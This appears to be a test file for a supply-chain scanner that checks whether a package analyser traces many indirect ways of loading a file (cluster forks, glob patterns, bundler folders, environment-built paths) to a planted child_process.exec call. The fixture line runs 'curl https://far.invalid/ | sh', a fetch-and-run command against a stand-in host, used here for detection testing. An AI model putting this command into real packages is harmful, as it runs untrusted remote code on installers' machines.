/** Ways to load a file of the package that name no module, and what they do not lead to. */
import { describe, expect, it } from 'vitest';
import { tellPackage } from './tell.ts';

const act = `require('child_process').exec('curl https://far.invalid/ | sh');`;
const manifest = { name: 'sample', version: '1.0.0', exports: './index.js' };

function reached(program: string, path = 'parts/one.js'): string[] {
  const told = tellPackage({ 'package.json': manifest, 'index.js': program, [path]: act });
  return told.filter((line) => line.endsWith('child_process.exec'));
}

describe('a file is loaded by', () => {
  it.each([
    [
      'a cluster',
      `const cluster = require('cluster'); cluster.setupPrimary({ exec: __dirname + '/parts/one.js' }); cluster.fork();`,
    ],
    [
      'a cluster, minified',
      `var c=require("cluster"),p=require("path");c.setupMaster({exec:p.join(__dirname,"parts/one.js")}),c.fork()`,
    ],
    [
      'a cluster of modules',
      `import cluster from 'node:cluster'; cluster.setupPrimary({ exec: new URL('./parts/one.js', import.meta.url).pathname });`,
    ],
    [
      'a pattern',
      `const glob = require('glob'); glob.sync(__dirname + '/parts/*.js').forEach((file) => require(file));`,
    ],
    [
      'a pattern under a folder',
      `const path = require('path'); require('glob').sync('parts/*.js', { cwd: __dirname }).forEach((file) => require(path.resolve(__dirname, file)));`,
    ],
    ['a pattern over folders', `for (const file of require('fs').globSync(__dirname + '/**/*.js')) require(file);`],
    [
      'a pattern of modules',
      `import { globSync } from 'glob'; for (const file of globSync(new URL('./parts/', import.meta.url).pathname + '*.js')) await import(file);`,
    ],
    ['a whole folder', `module.exports = require('require-all')({ dirname: __dirname + '/parts', filter: /js$/ });`],
    ['a whole folder by its name', `module.exports = require('require-dir')('./parts');`],
    ['a folder and those below', `module.exports = require('require-directory')(module);`],
    ["a bundler's pattern", `export default import.meta.glob('./parts/*.js', { eager: true });`],
    [
      "a bundler's patterns",
      `for (const load of Object.values(import.meta.glob(['./parts/*.js', '!./parts/two.js']))) await load();`,
    ],
    ["a bundler's folder", `const all = require.context('./parts', true, /\\.js$/); all.keys().forEach(all);`],
    ["a bundler's folder, minified", `!function(e){e.keys().map(e)}(require.context("./parts",!1,/\\.js$/))`],
    [
      'the names in a folder',
      `import { readdir } from 'node:fs/promises'; const parts = new URL('./parts/', import.meta.url); for (const name of await readdir(parts)) await import(new URL(name, parts));`,
    ],
    [
      'the addresses of what lies in a folder',
      `import fs from 'node:fs'; import path from 'node:path'; import { fileURLToPath, pathToFileURL } from 'node:url'; const own = path.dirname(fileURLToPath(import.meta.url)); fs.readdirSync(path.join(own, 'parts')).forEach(async (name) => { await import(pathToFileURL(path.join(own, 'parts', name)).href); });`,
    ],
    ['a name out of the environment', `require('./parts/' + process.env.PART);`],
    ['a folder out of the environment', `import(\`./\${process.env.SAMPLE_PARTS}/one.js\`);`],
    ['the parent of a module', `module.parent.require(__dirname + '/parts/one');`],
    ['what modules have in common', `require('module').prototype.require.call(module, './parts/one');`],
    ['a module that is made', `const Module = require('module'); new Module('one').load(__dirname + '/parts/one.js');`],
  ])('%s', (_, program) => {
    expect(reached(program)).toEqual(['load child-process child_process.exec']);
  });

  it('the name of a package that lies in this one', () => {
    const told = reached(`require('other/one');`, 'node_modules/other/one.js');
    expect(told).toEqual(['load child-process child_process.exec']);
  });
});

describe('nothing is loaded by', () => {
  it.each([
    ['patterns that are only listed', `exports.all = require('glob').sync(__dirname + '/parts/*.js');`],
    ['a pattern of other files', `require('glob').sync(__dirname + '/other/*.js').forEach((file) => require(file));`],
    ['a folder of other files', `require.context('./other', true, /\\.js$/);`],
    ['a cluster of another program', `require('cluster').setupPrimary({ exec: process.argv[2] });`],
    ['what other objects load', `exports.load = (texture) => texture.load(__dirname + '/parts/one.js');`],
    ['a package that is not there', `require('other/one');`],
  ])('%s', (_, program) => {
    expect(reached(program).filter((line) => line.startsWith('load'))).toEqual([]);
  });
});
